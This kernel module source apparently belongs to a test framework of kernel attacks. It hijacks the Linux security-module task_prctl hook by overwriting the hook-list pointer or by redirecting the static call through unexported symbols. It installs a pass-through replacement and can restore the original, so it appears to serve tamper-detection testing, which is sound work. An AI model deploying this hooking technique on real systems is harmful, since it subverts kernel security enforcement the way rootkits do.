// SPDX-License-Identifier: GPL-2.0-only
/*
 * A hook of the security modules: the function of one that is there becomes this module's,
 * in the list that the kernel had until 6.11, or in the static call that replaced it.
 */
#include <linux/lsm_hooks.h>
#include <linux/static_call.h>

#include "attack.h"

typedef int (*any_function)(long, long, long, long, long);
static any_function original;

static int replacement(long a, long b, long c, long d, long e)
{
	return original(a, b, c, d, e);
}

static void *slot;
static struct static_call_key *key;
static void *trampoline;

#if __has_include(<linux/lsm_count.h>)
static int hook_list(unsigned long unused)
{
	return -ENOENT;
}
#else
static int hook_list(unsigned long heads)
{
	struct security_hook_list *first = hlist_entry_safe(
		((struct security_hook_heads *)heads)->task_prctl.first,
		struct security_hook_list, list);

	if (!first)
		return -ENOENT;
	slot = &first->hook.task_prctl;
	original = *(any_function *)slot;
	return attack_write_pointer(slot, replacement);
}
#endif

static int hook_static_call(void)
{
	void (*update)(struct static_call_key *, void *,
		       void *) = (void *)attack_symbol("__static_call_update");

	key = (void *)attack_symbol("__SCK__lsm_static_call_task_prctl_0");
	trampoline = (void *)attack_symbol("__SCT__lsm_static_call_task_prctl_0");
	original = (any_function)attack_symbol("cap_task_prctl");
	if (!update || !key || !trampoline || !original)
		return -ENOENT;
	update(key, trampoline, replacement);
	return 0;
}

static int change(void)
{
	unsigned long heads = attack_symbol("security_hook_heads");

	return heads ? hook_list(heads) : hook_static_call();
}

static void restore(void)
{
	void (*update)(struct static_call_key *, void *, void *) = NULL;

	if (slot) {
		(void)attack_write_pointer(slot, original);
		return;
	}
	update = (void *)attack_symbol("__static_call_update");
	update(key, trampoline, original);
}

ATTACK(change, restore, "a hook of the security modules");
